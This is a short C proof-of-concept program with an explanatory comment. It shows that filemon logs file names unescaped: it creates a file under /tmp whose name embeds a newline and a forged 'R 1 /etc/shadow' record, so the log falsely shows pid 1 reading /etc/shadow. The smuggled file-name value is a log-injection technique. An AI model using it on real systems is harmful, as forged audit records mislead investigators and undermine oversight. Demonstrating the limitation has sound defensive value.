/*
 * fms-forge: filemon is not a security tool. A file name may hold any byte
 * but '/' and NUL, newlines included, and filemon writes names unescaped,
 * as FreeBSD's does. This program creates /tmp/forge/x<newline>R 1 /etc/shadow
 * and writes to it: the log gets a W record for /tmp/forge/x, then a line
 * "R 1 /etc/shadow" that reads as pid 1 reading /etc/shadow, though no
 * process opened it. Nothing in the log tells the forged line from a real
 * one, so no parser can detect it in general: trust a log only as far as
 * you trust every program it traced.
 */
#include <err.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void)
{
	static const char *const dirs[] = { "/tmp/forge", "/tmp/forge/x\nR 1 ", "/tmp/forge/x\nR 1 /etc" };
	static const char name[] = "/tmp/forge/x\nR 1 /etc/shadow";
	unsigned i;
	int fd;

	for (i = 0; i < sizeof(dirs) / sizeof(dirs[0]); i++)
		if (mkdir(dirs[i], 0755) == -1 && access(dirs[i], F_OK) == -1)
			err(1, "mkdir");
	if ((fd = open(name, O_WRONLY | O_CREAT | O_TRUNC, 0644)) == -1)
		err(1, "open");
	if (write(fd, "forged\n", 7) != 7)
		err(1, "write");
	close(fd);
	printf("wrote to a file whose name holds a newline and a fake record:\n  \"/tmp/forge/x\\nR 1 /etc/shadow\"\n");
	return 0;
}
